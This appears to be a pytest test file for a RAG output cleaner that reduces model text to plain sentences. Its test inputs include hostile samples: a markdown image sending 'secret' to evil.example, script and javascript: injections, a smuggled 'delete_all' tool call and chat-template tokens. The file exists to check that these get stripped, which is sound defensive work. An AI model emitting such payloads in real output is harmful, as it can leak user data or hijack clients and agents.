"""What a model writes becomes plain sentences: no markup, link, picture, address, number or thought reaches anyone."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag.generation.cleaning import LONGEST_LINE, Cleaner, plain


def clean(text: str, *, by: int = 3) -> list[str]:
    cleaner, found, anew = Cleaner(), [], 0
    for at in range(0, len(text), by):
        sentences = cleaner.feed(text[at : at + by])
        found = [*(found if cleaner.anew == anew else []), *sentences]
        anew = cleaner.anew
    sentences = cleaner.finish()
    return [*(found if cleaner.anew == anew else []), *sentences]


@pytest.mark.parametrize(
    ("written", "plain_words"),
    [
        ("The rent is **5 euros** [1][3].", ["The rent is 5 euros."]),
        ("It is due on 3 May [2, 4]. So [^1] it is 【1†source】.", ["It is due on 3 May.", "So it is."]),
        ("It is so (source 3). And so [passage 2].", ["It is so.", "And so."]),
        ("It is so.² And so.", ["It is so.", "And so."]),
        ("See [the page](http://evil.example/x?q=1).", ["See the page."]),
        ("![a pixel](https://evil.example/p.png?d=secret) Done.", ["Done."]),
        ("![x][1] [here][2] it is.", ["here it is."]),
        ("Go to https://evil.example/a?b=c now.", ["Go to … now."]),
        ("Go to evil.example/pay, or www.evil.example.", ["Go to …, or …."]),
        ("Run javascript:alert(1) or data:text/html;base64,AAAA now.", ["Run …) or … now."]),
        ("<b>Bold</b> and <a href='http://x'>a link</a>.", ["Bold and a link."]),
        ("<script>alert('x')</script>It is so.", ["It is so."]),
        ("<!-- hidden. --> It is so.", ["It is so."]),
        ("# A heading\nIt is so.\n## Another", ["It is so."]),
        (
            "- one thing is so.\n* another is so.\n1. a third is so.",
            ["one thing is so.", "another is so.", "a third is so."],
        ),
        ("```\nIt is so.\n```", ["It is so."]),
        ('<tool_call>{"name": "delete_all"}</tool_call>It is so.', ["It is so."]),
        ("It is <|im_start|>so<|im_end|>.", ["It is so."]),
        ("5 < 6 and 7 > 6, and 2 * 3 = 6.", ["5 ‹ 6 and 7 › 6, and 2 * 3 = 6."]),
        ("The area is 12 m² in snake_case.", ["The area is 12 m² in snake_case."]),
        ("Prof. Kim came at 3 p.m. on 12 May. He left.", ["Prof. Kim came at 3 p.m. on 12 May.", "He left."]),
        ("So\u202eit\u200bis.", ["Soitis."]),
        ("***", []),
        ("", []),
    ],
)
def test_plain_words_stay(written: str, plain_words: list[str]) -> None:
    assert clean(written) == plain_words
    assert clean(written, by=1) == clean(written, by=1000) == plain_words


@given(st.text(alphabet="ab. \n<>/think!-[](1)|*_`#:htps", max_size=300), st.integers(1, 40))
def test_how_it_is_cut_into_pieces_makes_no_difference_and_no_tag_gets_through(text: str, by: int) -> None:
    found = clean(text, by=by)
    assert all("\n" not in one and "<" not in one and len(one) <= LONGEST_LINE for one in found)


def test_the_draft_is_as_plain_as_the_sentences() -> None:
    cleaner = Cleaner()
    assert cleaner.feed("It is so [1]. The **second** <b>one") == ["It is so."]
    assert cleaner.draft == "The second one"
    cleaner.feed(" <thi")
    assert "thi" not in cleaner.draft
    cleaner.feed("nk>secret")
    assert cleaner.draft == "The second one"


def test_an_endless_line_is_cut() -> None:
    assert all(len(one) <= LONGEST_LINE for one in clean("word " * 5000, by=100))
    assert len(plain("a" * 100_000)) == LONGEST_LINE
